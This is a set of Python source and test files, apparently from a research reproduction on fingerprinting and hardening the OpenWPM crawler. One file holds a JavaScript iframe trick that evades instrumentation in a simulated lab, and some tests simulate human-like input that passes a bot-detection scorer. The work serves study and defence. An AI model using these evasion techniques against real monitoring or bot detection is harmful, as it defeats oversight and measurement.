    incremental rollups stay generation-identical to the broker path).
    *queue* lets the merge settle provisional rows left by workers
    that died and never respawned.
    """
    if (database_path is None) == (controller is None):
        raise ValueError(
            "merge_shards needs exactly one of database_path or "
            "controller")
    report = MergeReport(shards=len(shard_paths))
    rows = _collect_rows(list(shard_paths), queue, report)

    own_controller = controller is None
    storage = controller if controller is not None \
        else StorageController(database_path)
    readers: Dict[str, _ShardReader] = {}
    try:
        if has_data(storage):
            _wipe(storage)
            report.wiped = True
        for row in rows:
            reader = readers.get(row["_path"])
            if reader is None:
                reader = readers[row["_path"]] = \
                    _ShardReader(row["_path"])
            content = reader.content(row["content_lo"],
                                     row["content_hi"])
            if not row["applied"] or row.get("_demoted"):
                # Content only: hash-keyed OR IGNORE, position-stable.
                storage.import_content_rows(content)
                report.content_rows += len(content)
                report.attempts_voided += not row["applied"]
                continue
            id_map: Dict[int, int] = {}
            for visit in reader.visits(row["visit_lo"],
                                       row["visit_hi"]):
                id_map[visit["visit_id"]] = storage.import_visit(
                    visit["browser_id"], visit["site_url"],
                    visit["run_label"], visit["tables"])
                report.visits_imported += 1
            storage.import_content_rows(content)
            report.content_rows += len(content)
            crash = [(r[0], id_map.get(r[1]), r[2], r[3])
                     for r in reader.ledger("crash_history",
                                            row["crash_lo"],
                                            row["crash_hi"])]
            storage.import_ledger_rows("crash_history", crash)
            failed = reader.ledger("failed_visits", row["failed_lo"],
                                   row["failed_hi"])
            storage.import_ledger_rows("failed_visits", failed)
            quarantine = reader.ledger("quarantined_sites",
                                       row["quarantine_lo"],
                                       row["quarantine_hi"])
            storage.import_ledger_rows("quarantined_sites", quarantine)
            report.ledger_rows += len(crash) + len(failed) \
                + len(quarantine)
            report.attempts_applied += 1
    finally:
        for reader in readers.values():
            reader.close()
        if own_controller:
            storage.close()
    return report


def has_data(storage: Any) -> bool:
    """Any raw crawl rows in *storage*? (Also the broker→shard resume
    guard: resuming a broker-mode crawl in shard mode would wipe these
    rows and refold only shard data.)"""
    with storage._lock:
        storage._flush_locked()
        for table in ("site_visits", "content", "crash_history",
                      "failed_visits", "quarantined_sites"):
            if storage.connection.execute(
                    f"SELECT 1 FROM {table} LIMIT 1"  # noqa: S608
            ).fetchone() is not None:
                return True
    return False


def _wipe(storage: Any) -> None:
    """Empty the raw tables for a from-scratch re-merge (resume path).

    Visit ids and ledger AUTOINCREMENT counters restart at 1 so the
    re-fold allocates the same ids a clean run would; the rollups are
    rebuilt empty with the generation moving forward (stale caches
    keyed under the old generation can never serve the new state).
    """
    from repro.serve import rollups

    with storage._lock:
        storage._flush_locked()
        tables = [t for t in storage.TABLES if t != "telemetry"]
        for table in tables:
            storage.connection.execute(
                f"DELETE FROM {table}")  # noqa: S608
        if storage.connection.execute(
                "SELECT name FROM sqlite_master WHERE type = 'table' "
                "AND name = 'sqlite_sequence'").fetchone() is not None:
            storage.connection.executemany(
                "DELETE FROM sqlite_sequence WHERE name = ?",
                [(t,) for t in tables])
        storage._next_visit_id = 1
        if storage.rollups.enabled:
            rollups.build(storage.connection)
            # build() seeds every totals name, zeros included; the
            # incremental maintainer starting from an empty database
            # only creates a row when its count first moves. Drop the
            # zero seeds so the re-folded rollups come out
            # byte-identical to a clean run's (the generation keeps
            # its forward bump either way).
            storage.connection.execute(
                "DELETE FROM rollups_totals WHERE value = 0")
        storage.connection.commit()

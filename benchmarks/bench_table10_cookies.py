"""Table 10: served cookies — first/third party and tracking cookies."""

from conftest import report

PAPER = {1: (3.33, 5.05, 41.70), 2: (3.06, 7.12, 52.13),
         3: (4.23, 8.11, 59.65)}


def test_benchmark_table10(benchmark, bench_paired):
    rows = benchmark(bench_paired.table10)
    significance = bench_paired.cookie_significance(0)

    lines = ["(paper diffs: first-party +3-4%, third-party +5-8%, "
             "tracking +42-60%, p < 0.0001)", "",
             "| run | 1P diff (paper) | 3P diff (paper) | "
             "tracking WPM | tracking hide | tracking diff (paper) |",
             "|---|---|---|---|---|---|"]
    for row in rows:
        p1, p3, pt = PAPER[row["run"]]
        lines.append(
            f"| r{row['run']} | {row['first_party_diff_pct']:+.1f}% "
            f"({p1:+.2f}%) | {row['third_party_diff_pct']:+.1f}% "
            f"({p3:+.2f}%) | {row['wpm_tracking']} | "
            f"{row['hide_tracking']} | "
            f"{row['tracking_diff_pct']:+.1f}% ({pt:+.2f}%) |")
    lines.append("")
    lines.append(f"Wilcoxon (per-site cookies, r1): "
                 f"p = {significance.p_value:.2e}")
    report("table10_cookies", "Table 10 - served cookies", lines)

    for row in rows:
        # All three diffs favour the hardened client...
        assert row["first_party_diff_pct"] >= 0
        assert row["third_party_diff_pct"] > 0
        assert row["tracking_diff_pct"] > 10
        # ...and tracking cookies are hit disproportionately.
        assert row["tracking_diff_pct"] > row["third_party_diff_pct"]
    # Third-party gap grows with re-identification (r1 -> r3).
    assert rows[-1]["third_party_diff_pct"] \
        >= rows[0]["third_party_diff_pct"]
    assert significance.significant

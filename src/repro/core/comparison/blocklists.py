"""EasyList / EasyPrivacy matching (paper Sec. 6.3.2, Table 9).

The paper identifies ad/tracker requests with the EasyList and
EasyPrivacy blocklists; here the lists are the synthetic ecosystem's
published equivalents (domain-based rules, matched on eTLD+1).
"""

from __future__ import annotations

from typing import Dict, Iterable, Optional

from repro.net.url import URL, etld_plus_one


class BlocklistMatcher:
    """Domain-rule matcher over the two lists."""

    def __init__(self, easylist: Optional[Iterable[str]] = None,
                 easyprivacy: Optional[Iterable[str]] = None) -> None:
        if easylist is None or easyprivacy is None:
            from repro.web.providers import blocklist_domains

            lists = blocklist_domains()
            easylist = easylist if easylist is not None \
                else lists["easylist"]
            easyprivacy = easyprivacy if easyprivacy is not None \
                else lists["easyprivacy"]
        self.easylist = {etld_plus_one(d) for d in easylist}
        self.easyprivacy = {etld_plus_one(d) for d in easyprivacy}

    # ------------------------------------------------------------------
    def _domain_of(self, url: str) -> str:
        try:
            return etld_plus_one(URL.parse(url).host)
        except ValueError:
            return ""

    def matches_easylist(self, url: str) -> bool:
        return self._domain_of(url) in self.easylist

    def matches_easyprivacy(self, url: str) -> bool:
        return self._domain_of(url) in self.easyprivacy

    def matches_any(self, url: str) -> bool:
        domain = self._domain_of(url)
        return domain in self.easylist or domain in self.easyprivacy

    def count(self, urls: Iterable[str]) -> Dict[str, int]:
        """Count ad/tracker requests per list."""
        counts = {"easylist": 0, "easyprivacy": 0, "any": 0,
                  "total": 0}
        for url in urls:
            counts["total"] += 1
            domain = self._domain_of(url)
            hit = False
            if domain in self.easylist:
                counts["easylist"] += 1
                hit = True
            if domain in self.easyprivacy:
                counts["easyprivacy"] += 1
                hit = True
            if hit:
                counts["any"] += 1
        return counts

"""Iframe instrumentation bypass (paper Listing 3, Sec. 5.4.1).

The vanilla instrument attaches wrappers to a new frame from an
event-loop task. A script that creates an iframe and **immediately**
(same tick) calls APIs through ``contentWindow`` therefore executes
against the still-uninstrumented frame — those calls never appear in the
record. Deferred (next-tick) access is instrumented normally, which is
why only immediate execution exploits the bug. The hardened frame
protection instruments frames synchronously at creation (Sec. 6.2.2).
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Optional

from repro.browser.browser import Browser
from repro.browser.profiles import BrowserProfile, openwpm_profile
from repro.core.attacks.dispatcher import AttackOutcome, _make_extension
from repro.core.lab import LAB_URL
from repro.net.http import HttpResponse
from repro.net.network import FunctionServer, Network
from repro.net.page import PageSpec, ScriptItem

#: Listing 3: dynamic iframe creation + immediate access.
IFRAME_BYPASS_ATTACK = """
setTimeout(() => {
    let element = document.querySelector("#unobserved");
    let iframe = document.createElement('iframe');
    // HTML code for instantiating an iFrame
    iframe.src = "/unobserved-iframe.html";
    element.appendChild(iframe);
    iframe.contentWindow.navigator.userAgent;
}, 500);
"""

#: Control variant: the access happens one tick later, after the
#: instrumentation task has run.
IFRAME_DELAYED_ACCESS = """
setTimeout(() => {
    let element = document.querySelector("#unobserved");
    let iframe = document.createElement('iframe');
    iframe.src = "/unobserved-iframe.html";
    element.appendChild(iframe);
    setTimeout(() => {
        iframe.contentWindow.navigator.platform;
    }, 50);
}, 500);
"""


@dataclass
class IframeBypassOutcome(AttackOutcome):
    immediate_recorded: bool = False
    delayed_recorded: bool = False


def run_iframe_bypass_attack(profile: Optional[BrowserProfile] = None,
                             stealth: bool = False) -> IframeBypassOutcome:
    """Run both variants; success = immediate access went unrecorded."""
    extension = _make_extension(stealth)
    profile = profile or openwpm_profile("ubuntu", "regular")

    page = PageSpec(url=LAB_URL, items=[
        ScriptItem(source='document.body.innerHTML = '
                          '"<div id=\\"unobserved\\"></div>";'),
        ScriptItem(source=IFRAME_BYPASS_ATTACK),
        ScriptItem(source=IFRAME_DELAYED_ACCESS),
    ])
    frame_page = PageSpec(url=LAB_URL + "unobserved-iframe.html", items=[])

    network = Network()

    def serve(request, client, net):
        if request.url.path == "/unobserved-iframe.html":
            return HttpResponse(page=frame_page, body=frame_page.to_html())
        return HttpResponse(page=page, body=page.to_html())

    network.register_domain("lab.test", FunctionServer(serve))
    browser = Browser(profile, network, extension=extension)
    browser.visit(LAB_URL, wait=60)

    from repro.core.attacks.dispatcher import normalized_symbols

    symbols = extension.js_instrument.symbols_accessed()
    lowered = normalized_symbols(extension.js_instrument)
    immediate_recorded = "navigator.useragent" in lowered
    delayed_recorded = "navigator.platform" in lowered
    return IframeBypassOutcome(
        attack="iframe-bypass",
        succeeded=not immediate_recorded,
        recorded_symbols=symbols,
        immediate_recorded=immediate_recorded,
        delayed_recorded=delayed_recorded,
        details=f"immediate access recorded: {immediate_recorded}; "
                f"delayed access recorded: {delayed_recorded}")

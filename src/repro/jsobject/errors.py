"""JS errors and stack traces.

Stack traces are a fingerprinting channel: the paper (Sec. 3.1.4) shows
that provoking an error inside an instrumented function exposes OpenWPM's
wrapper frames in ``error.stack``. The hardened variant rewrites thrown
errors so no instrumentation frame appears (Sec. 6.1.3).
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Any, List, Optional

from repro.jsobject.objects import JSObject
from repro.jsobject.values import UNDEFINED, to_js_string


@dataclass(frozen=True)
class StackFrame:
    """One entry of a JS stack trace."""

    function_name: str
    script_url: str
    line: int
    column: int

    def format(self) -> str:
        name = self.function_name or "<anonymous>"
        return f"{name}@{self.script_url}:{self.line}:{self.column}"


def format_stack(frames: List[StackFrame]) -> str:
    """Render frames innermost-first, Firefox style."""
    return "\n".join(frame.format() for frame in frames)


def make_error_object(kind: str, message: str,
                      frames: Optional[List[StackFrame]] = None,
                      script_url: str = "", line: int = 0,
                      column: int = 0) -> JSObject:
    """Build a JS ``Error`` instance with name/message/stack/fileName."""
    err = JSObject(class_name="Error")
    err.put("name", kind)
    err.put("message", message)
    err.put("stack", format_stack(frames or []))
    err.put("fileName", script_url)
    err.put("lineNumber", float(line))
    err.put("columnNumber", float(column))
    return err


class JSError(Exception):
    """Python-side carrier for a thrown JS value.

    The interpreter raises this to unwind; ``value`` is the thrown JS
    value (usually an Error object, but any value can be thrown).
    """

    def __init__(self, value: Any) -> None:
        self.value = value
        super().__init__(self._describe(value))

    @staticmethod
    def _describe(value: Any) -> str:
        if isinstance(value, JSObject):
            name = value.get("name")
            message = value.get("message")
            if name is not UNDEFINED:
                return f"{to_js_string(name)}: {to_js_string(message)}"
        try:
            return to_js_string(value)
        except TypeError:
            return repr(value)

    @classmethod
    def type_error(cls, message: str,
                   frames: Optional[List[StackFrame]] = None) -> "JSError":
        return cls(make_error_object("TypeError", message, frames))

    @classmethod
    def range_error(cls, message: str,
                    frames: Optional[List[StackFrame]] = None) -> "JSError":
        return cls(make_error_object("RangeError", message, frames))

    @classmethod
    def reference_error(cls, message: str,
                        frames: Optional[List[StackFrame]] = None) -> "JSError":
        return cls(make_error_object("ReferenceError", message, frames))

    @classmethod
    def syntax_error(cls, message: str,
                     frames: Optional[List[StackFrame]] = None) -> "JSError":
        return cls(make_error_object("SyntaxError", message, frames))

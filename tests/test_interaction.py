"""Tests for interaction simulation and behavioural detection."""

import random

import pytest

from repro.browser.interaction import (
    BEHAVIOUR_COLLECTOR_SCRIPT,
    HumanLikeInteraction,
    SeleniumInteraction,
    extract_behaviour_track,
    score_pointer_track,
)


@pytest.fixture()
def collector_window(openwpm_window):
    openwpm_window.run_script(BEHAVIOUR_COLLECTOR_SCRIPT,
                              script_url="https://site.test/collect.js")
    return openwpm_window


class TestEventSynthesis:
    def test_selenium_pointer_teleports(self):
        driver = SeleniumInteraction()
        path = driver.pointer_path((0, 0), (500, 300))
        assert len(path) == 1
        assert (path[0].x, path[0].y) == (500, 300)

    def test_human_pointer_has_many_samples(self):
        driver = HumanLikeInteraction(random.Random(1))
        path = driver.pointer_path((0, 0), (500, 300))
        assert len(path) > 8
        # Ends on target after overshoot correction.
        assert (path[-1].x, path[-1].y) == (500, 300)

    def test_human_pointer_is_curved(self):
        driver = HumanLikeInteraction(random.Random(1))
        path = driver.pointer_path((0, 0), (400, 0))
        # Some intermediate point deviates from the straight line y=0.
        assert any(abs(sample.y) > 2 for sample in path[1:-2])

    def test_human_timing_varies(self):
        driver = HumanLikeInteraction(random.Random(1))
        delays = driver.keystroke_delays("hello world")
        assert len(set(round(d, 4) for d in delays)) > 3

    def test_selenium_timing_constant(self):
        delays = SeleniumInteraction().keystroke_delays("hello")
        assert len(set(delays)) == 1

    def test_human_scroll_incremental(self):
        driver = HumanLikeInteraction(random.Random(1))
        steps = driver.scroll_steps(800)
        assert len(steps) > 3
        assert abs(sum(steps) - 800) < 1

    def test_selenium_scroll_single_jump(self):
        assert SeleniumInteraction().scroll_steps(800) == [800]

    def test_deterministic_given_seed(self):
        a = HumanLikeInteraction(random.Random(5)).pointer_path((0, 0),
                                                                (100, 100))
        b = HumanLikeInteraction(random.Random(5)).pointer_path((0, 0),
                                                                (100, 100))
        assert [(s.x, s.y, s.dt) for s in a] == [(s.x, s.y, s.dt)
                                                 for s in b]


class TestEventDelivery:
    def test_click_delivers_events_to_page(self, collector_window):
        SeleniumInteraction().click(collector_window, "body")
        track = extract_behaviour_track(collector_window)
        assert any(sample.get("click") for sample in track)

    def test_human_click_leaves_movement_trail(self, collector_window):
        HumanLikeInteraction(random.Random(2)).click(collector_window,
                                                     "body")
        track = extract_behaviour_track(collector_window)
        moves = [s for s in track if not s.get("click")]
        assert len(moves) > 5

    def test_typing_dispatches_keydown(self, openwpm_window):
        openwpm_window.run_script("""
            window.__keys = [];
            document.addEventListener('keydown', function (e) {
                window.__keys.push(e.key);
            });
        """)
        HumanLikeInteraction(random.Random(3)).type_text(openwpm_window,
                                                         "abc")
        assert openwpm_window.run_script("window.__keys.join('')") == "abc"

    def test_scroll_dispatches_events(self, openwpm_window):
        openwpm_window.run_script("""
            window.__scrolls = 0;
            document.addEventListener('scroll', function () {
                window.__scrolls = window.__scrolls + 1;
            });
        """)
        HumanLikeInteraction(random.Random(4)).scroll(openwpm_window, 600)
        assert openwpm_window.run_script("window.__scrolls") > 2


class TestBehaviouralScoring:
    def test_selenium_interaction_flagged(self, collector_window):
        SeleniumInteraction().click(collector_window, "body")
        verdict = score_pointer_track(
            extract_behaviour_track(collector_window))
        assert verdict.is_bot
        assert verdict.reasons

    def test_human_interaction_passes(self, collector_window):
        HumanLikeInteraction(random.Random(6)).click(collector_window,
                                                     "body")
        verdict = score_pointer_track(
            extract_behaviour_track(collector_window))
        assert not verdict.is_bot

    def test_empty_track_not_flagged(self):
        verdict = score_pointer_track([])
        assert not verdict.is_bot

    def test_straight_path_detected(self):
        samples = [{"x": float(i * 10), "y": 50.0, "t": float(i * 16)}
                   for i in range(10)]
        verdict = score_pointer_track(samples)
        assert "perfectly straight pointer path" in verdict.reasons

    def test_zero_variance_detected(self):
        samples = [{"x": float(i), "y": float(i * i % 37), "t": i * 10.0}
                   for i in range(10)]
        verdict = score_pointer_track(samples)
        assert "zero inter-event timing variance" in verdict.reasons

"""Table 3: screen properties for various configurations."""

from conftest import report

PAPER = [
    ("macos", "regular", (2560, 1440), (1366, 683), 23, 4, (0, 0)),
    ("macos", "headless", (1366, 768), (1366, 683), 4, 4, (0, 0)),
    ("ubuntu", "regular", (2560, 1440), (1366, 683), 80, 35, (8, 8)),
    ("ubuntu", "headless", (1366, 768), (1366, 683), 0, 0, (0, 0)),
    ("ubuntu", "xvfb", (1366, 768), (1366, 683), 0, 0, (0, 0)),
    ("ubuntu", "docker", (2560, 1440), (1366, 683), 0, 0, (0, 0)),
]


def test_benchmark_table3(benchmark):
    from repro.core.fingerprint import run_probes
    from repro.browser.profiles import openwpm_profile
    from repro.core.lab import make_window

    def probe_all():
        rows = []
        for os_name, mode, *_ in PAPER:
            _, window = make_window(openwpm_profile(os_name, mode))
            probes = run_probes(window)
            rows.append((os_name, mode, probes))
        return rows

    rows = benchmark.pedantic(probe_all, rounds=1, iterations=1)

    lines = ["| OS | mode | resolution | window | X | Y | offset |",
             "|---|---|---|---|---|---|---|"]
    by_key = {(os_name, mode): probes for os_name, mode, probes in rows}
    for os_name, mode, resolution, window_size, x, y, offset in PAPER:
        probes = by_key[(os_name, mode)]
        lines.append(
            f"| {os_name} | {mode} | "
            f"{probes['screenWidth']:.0f}x{probes['screenHeight']:.0f} | "
            f"{probes['innerWidth']:.0f}x{probes['innerHeight']:.0f} | "
            f"{probes['screenX']:.0f} | {probes['screenY']:.0f} | "
            f"{offset} |")
        assert (probes["screenWidth"], probes["screenHeight"]) \
            == resolution
        assert (probes["innerWidth"], probes["innerHeight"]) == window_size
        assert probes["screenX"] == x and probes["screenY"] == y
    report("table03_screen_properties",
           "Table 3 - screen properties per configuration", lines)

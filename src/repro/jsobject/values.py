"""Primitive JavaScript values and conversions.

JavaScript primitives map onto Python types:

* ``number``  -> :class:`float` (integers are floats, as in JS)
* ``string``  -> :class:`str`
* ``boolean`` -> :class:`bool`
* ``null``    -> :data:`NULL`
* ``undefined`` -> :data:`UNDEFINED`

Objects, arrays, and functions are instances of
:class:`repro.jsobject.objects.JSObject`.
"""

from __future__ import annotations

import math
from typing import Any


class JSUndefined:
    """The JavaScript ``undefined`` value (singleton :data:`UNDEFINED`)."""

    _instance = None

    def __new__(cls):
        if cls._instance is None:
            cls._instance = super().__new__(cls)
        return cls._instance

    def __repr__(self):
        return "undefined"

    def __bool__(self):
        return False


class JSNull:
    """The JavaScript ``null`` value (singleton :data:`NULL`)."""

    _instance = None

    def __new__(cls):
        if cls._instance is None:
            cls._instance = super().__new__(cls)
        return cls._instance

    def __repr__(self):
        return "null"

    def __bool__(self):
        return False


UNDEFINED = JSUndefined()
NULL = JSNull()


def is_callable(value: Any) -> bool:
    """Return True if *value* is a JS function object."""
    from repro.jsobject.functions import JSFunction

    return isinstance(value, JSFunction)


def js_typeof(value: Any) -> str:
    """Implement the JS ``typeof`` operator."""
    from repro.jsobject.objects import JSObject
    from repro.jsobject.functions import JSFunction

    if value is UNDEFINED:
        return "undefined"
    if value is NULL:
        return "object"
    if isinstance(value, bool):
        return "boolean"
    if isinstance(value, (int, float)):
        return "number"
    if isinstance(value, str):
        return "string"
    if isinstance(value, JSFunction):
        return "function"
    if isinstance(value, JSObject):
        return "object"
    raise TypeError(f"not a JS value: {value!r}")


def js_truthy(value: Any) -> bool:
    """Implement JS ToBoolean."""
    if value is UNDEFINED or value is NULL:
        return False
    if isinstance(value, bool):
        return value
    if isinstance(value, (int, float)):
        return not (value == 0 or (isinstance(value, float) and math.isnan(value)))
    if isinstance(value, str):
        return len(value) > 0
    return True  # all objects are truthy


def format_number(value: float) -> str:
    """Format a JS number the way ``String(n)`` would."""
    if isinstance(value, bool):  # guard: bool is a subclass of int
        return "true" if value else "false"
    if isinstance(value, float) and math.isnan(value):
        return "NaN"
    if value == math.inf:
        return "Infinity"
    if value == -math.inf:
        return "-Infinity"
    if float(value).is_integer() and abs(value) < 1e21:
        return str(int(value))
    return repr(float(value))


def to_js_string(value: Any) -> str:
    """Implement JS ToString for primitives and objects.

    Object conversion consults the object's ``toString`` only when it is a
    native/script function that takes no interpreter (plain model usage);
    the interpreter wires full ``toString`` dispatch itself.
    """
    from repro.jsobject.objects import JSArray, JSObject
    from repro.jsobject.functions import JSFunction

    if value is UNDEFINED:
        return "undefined"
    if value is NULL:
        return "null"
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, (int, float)):
        return format_number(float(value))
    if isinstance(value, str):
        return value
    if isinstance(value, JSFunction):
        return value.to_source_string()
    if isinstance(value, JSArray):
        return ",".join(
            "" if (v is UNDEFINED or v is NULL) else to_js_string(v)
            for v in value.elements
        )
    if isinstance(value, JSObject):
        return f"[object {value.class_name}]"
    raise TypeError(f"not a JS value: {value!r}")


def to_number(value: Any) -> float:
    """Implement JS ToNumber for primitives (objects -> NaN unless array-ish)."""
    from repro.jsobject.objects import JSObject

    if value is UNDEFINED:
        return math.nan
    if value is NULL:
        return 0.0
    if isinstance(value, bool):
        return 1.0 if value else 0.0
    if isinstance(value, (int, float)):
        return float(value)
    if isinstance(value, str):
        text = value.strip()
        if not text:
            return 0.0
        try:
            if text.startswith(("0x", "0X")):
                return float(int(text, 16))
            return float(text)
        except ValueError:
            return math.nan
    if isinstance(value, JSObject):
        return math.nan
    raise TypeError(f"not a JS value: {value!r}")


def js_strict_equals(a: Any, b: Any) -> bool:
    """Implement the JS ``===`` operator."""
    if a is UNDEFINED or b is UNDEFINED:
        return a is b
    if a is NULL or b is NULL:
        return a is b
    if isinstance(a, bool) or isinstance(b, bool):
        # JS booleans only strict-equal booleans.
        return isinstance(a, bool) and isinstance(b, bool) and a == b
    if isinstance(a, (int, float)) and isinstance(b, (int, float)):
        if math.isnan(a) or math.isnan(b):
            return False
        return float(a) == float(b)
    if isinstance(a, str) and isinstance(b, str):
        return a == b
    return a is b


def js_equals(a: Any, b: Any) -> bool:
    """Implement the JS ``==`` operator (loose equality, simplified).

    The corpus scripts only rely on the null/undefined coercion and
    number/string coercion rules, which are implemented faithfully.
    """
    if js_strict_equals(a, b):
        return True
    null_like = (UNDEFINED, NULL)
    if (a in null_like) and (b in null_like):
        return True
    if a in null_like or b in null_like:
        return False
    if isinstance(a, (int, float)) and isinstance(b, str):
        return js_strict_equals(float(a), to_number(b))
    if isinstance(a, str) and isinstance(b, (int, float)):
        return js_strict_equals(to_number(a), float(b))
    if isinstance(a, bool):
        return js_equals(to_number(a), b)
    if isinstance(b, bool):
        return js_equals(a, to_number(b))
    return False

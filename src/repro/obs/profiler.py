"""Deterministic JS-engine profiler: op counts per script and function.

"Where does JS-engine time go?" is the first question of every perf
investigation here, and wall-clock profiles of a deterministic engine
are noise. This profiler counts the engine's own *op-budget ticks*
instead: both backends (the tree-walker and the closure compiler)
decrement ``Interpreter._ops_left`` once per executed node, and both
route every program/function entry through ``push_frame``/``pop_frame``
— so a shadow stack snapshotting ``ops_used`` at frame entry and exit
attributes exactly the ticks the budget machinery already pays for.
Same crawl, same seed, same profile, bit for bit.

Attribution is two-level:

* **scripts** — keyed by ``script_hash`` (sha256 of the source, the
  same formula as :func:`repro.corpus.script_hash` and the AST cache),
  so hot scripts join the corpus store directly. The hash is noted by
  ``Interpreter.run`` at program start and charged the program frame's
  total op delta at program exit.
* **functions** — keyed by ``(script_url, function_name)``, charged
  *self* ops: the frame's op delta minus its callees' deltas. Native
  builtins never push frames, so their ticks land in the calling
  frame's self ops (they are the caller's cost in this engine).

Install with :func:`install_profiler`; interpreters created afterwards
pick it up (one ``is not None`` branch per frame push when disabled).
"""

from __future__ import annotations

import threading
from typing import Any, Dict, List, Optional, Tuple


class _Entry:
    """One shadow-stack slot: a frame's op accounting in progress."""

    __slots__ = ("function_name", "script_url", "entry_ops",
                 "child_ops", "script_hash")

    def __init__(self, function_name: str, script_url: str,
                 entry_ops: int, script_hash: Optional[str]) -> None:
        self.function_name = function_name
        self.script_url = script_url
        self.entry_ops = entry_ops
        self.child_ops = 0
        self.script_hash = script_hash


class ScriptProfiler:
    """Aggregates per-script and per-function op counts across a crawl.

    Thread-safe: each interpreter carries its own shadow stack (workers
    never share an interpreter mid-run), and the aggregate tables are
    updated under one lock at frame exit only.
    """

    def __init__(self) -> None:
        self._lock = threading.Lock()
        #: hash -> {"script_url", "ops", "runs"}
        self._scripts: Dict[str, Dict[str, Any]] = {}
        #: (script_url, function_name) -> {"self_ops", "total_ops",
        #:                                  "calls"}
        self._functions: Dict[Tuple[str, str], Dict[str, Any]] = {}

    # ------------------------------------------------------------------
    # Engine hooks (called from Interpreter.push_frame / pop_frame)
    # ------------------------------------------------------------------
    def on_push(self, interp: Any, frame: Any) -> None:
        stack = getattr(interp, "_profile_stack", None)
        if stack is None:
            stack = []
            interp._profile_stack = stack
        if len(interp.call_stack) == 1:
            # Depth-0 push: a fresh program (or instrument) run. The
            # budget may just have been reset, so any stale entries
            # from an aborted earlier run must not absorb this run's
            # deltas.
            del stack[:]
        script_hash = None
        if not stack:
            # Consumed exactly once: only the program frame of a
            # ``run()`` carries the noted content hash; instrument
            # frames entered at depth 0 stay hash-less.
            script_hash = getattr(interp, "_profile_hash", None)
            interp._profile_hash = None
        stack.append(_Entry(frame.function_name, frame.script_url,
                            interp.ops_used, script_hash))

    def on_pop(self, interp: Any, frame: Any) -> None:
        stack = getattr(interp, "_profile_stack", None)
        if not stack:
            return
        entry = stack.pop()
        delta = interp.ops_used - entry.entry_ops
        if delta < 0:
            # A mid-frame budget reset (defensive; run_program resets
            # only at depth 0, where the stack was cleared).
            delta = entry.child_ops
        self_ops = delta - entry.child_ops
        if self_ops < 0:
            self_ops = 0
        if stack:
            stack[-1].child_ops += delta
        with self._lock:
            if entry.script_hash is not None:
                script = self._scripts.get(entry.script_hash)
                if script is None:
                    script = {"script_url": entry.script_url,
                              "ops": 0, "runs": 0}
                    self._scripts[entry.script_hash] = script
                script["ops"] += delta
                script["runs"] += 1
            key = (entry.script_url, entry.function_name)
            fn = self._functions.get(key)
            if fn is None:
                fn = {"self_ops": 0, "total_ops": 0, "calls": 0}
                self._functions[key] = fn
            fn["self_ops"] += self_ops
            fn["total_ops"] += delta
            fn["calls"] += 1

    # ------------------------------------------------------------------
    # Reports
    # ------------------------------------------------------------------
    def hot_scripts(self, top_n: Optional[int] = None
                    ) -> List[Dict[str, Any]]:
        """Scripts ranked by total op count (desc), hash tie-break."""
        with self._lock:
            rows = [
                {"script_hash": digest, "script_url": data["script_url"],
                 "ops": data["ops"], "runs": data["runs"]}
                for digest, data in self._scripts.items()]
        rows.sort(key=lambda r: (-r["ops"], r["script_hash"]))
        return rows[:top_n] if top_n is not None else rows

    def hot_functions(self, top_n: Optional[int] = None
                      ) -> List[Dict[str, Any]]:
        """Functions ranked by self op count (desc)."""
        with self._lock:
            rows = [
                {"script_url": url, "function": name,
                 "self_ops": data["self_ops"],
                 "total_ops": data["total_ops"], "calls": data["calls"]}
                for (url, name), data in self._functions.items()]
        rows.sort(key=lambda r: (-r["self_ops"], r["script_url"],
                                 r["function"]))
        return rows[:top_n] if top_n is not None else rows

    def snapshot(self) -> Dict[str, List[Dict[str, Any]]]:
        return {"scripts": self.hot_scripts(),
                "functions": self.hot_functions()}

    def clear(self) -> None:
        with self._lock:
            self._scripts.clear()
            self._functions.clear()


def install_profiler(profiler: Optional[ScriptProfiler]
                     ) -> Optional[ScriptProfiler]:
    """Make *profiler* the engine-wide profiler for interpreters created
    from now on (``None`` uninstalls). Returns the previous one."""
    from repro.jsengine import interpreter as engine

    previous = engine._PROFILER
    engine._PROFILER = profiler
    return previous

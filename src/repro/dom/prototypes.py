"""JS-visible DOM interface prototypes.

Builds the prototype chain hierarchy for one page realm::

    element -> HTML<Tag>Element.prototype -> HTMLElement.prototype
            -> Element.prototype -> Node.prototype
            -> EventTarget.prototype -> Object.prototype

OpenWPM's instrument wraps functions found along these chains; the
multi-level structure is what exposes the prototype-pollution
fingerprint of the vanilla instrument (paper Fig. 2) and what the
hardened per-prototype wrapping preserves (Sec. 6.1.4).
"""

from __future__ import annotations

from typing import Any, Dict

from repro.dom.document import Document
from repro.dom.events import DOMEvent
from repro.dom.node import Element, IFrameElement
from repro.jsengine.builtins import Realm
from repro.jsobject.descriptors import PropertyDescriptor
from repro.jsobject.errors import JSError
from repro.jsobject.functions import NativeFunction
from repro.jsobject.objects import JSObject
from repro.jsobject.values import NULL, UNDEFINED


def _throw_type_error(interp: Any, message: str) -> None:
    """Throw a TypeError carrying the interpreter's current stack."""
    if interp is not None:
        interp.throw("TypeError", message)
    raise JSError.type_error(message)


class DOMPrototypes:
    """All DOM interface prototypes for one realm."""

    def __init__(self, realm: Realm) -> None:
        self.realm = realm
        object_proto = realm.object_prototype

        self.event_target = JSObject(proto=object_proto,
                                     class_name="EventTargetPrototype")
        self.node = JSObject(proto=self.event_target,
                             class_name="NodePrototype")
        self.element = JSObject(proto=self.node,
                                class_name="ElementPrototype")
        self.html_element = JSObject(proto=self.element,
                                     class_name="HTMLElementPrototype")
        self.document = JSObject(proto=self.node,
                                 class_name="HTMLDocumentPrototype")
        self.event = JSObject(proto=object_proto, class_name="EventPrototype")

        self.per_tag: Dict[str, JSObject] = {}
        for tag in ("script", "iframe", "img", "canvas", "div", "span", "a",
                    "link", "p", "form", "input", "button", "html", "head",
                    "body", "h1", "h2"):
            self.per_tag[tag] = JSObject(
                proto=self.html_element,
                class_name=f"HTML{tag.capitalize()}ElementPrototype")

        self._install_event_target()
        self._install_node()
        self._install_element()
        self._install_iframe()
        self._install_canvas()
        self._install_document()

    # ------------------------------------------------------------------
    def proto_for_tag(self, tag: str) -> JSObject:
        return self.per_tag.get(tag.lower(), self.html_element)

    def _native(self, name: str, fn) -> NativeFunction:
        return NativeFunction(fn, name=name,
                              proto=self.realm.function_prototype)

    def _accessor(self, target: JSObject, name: str, getter, setter=None,
                  enumerable: bool = True) -> None:
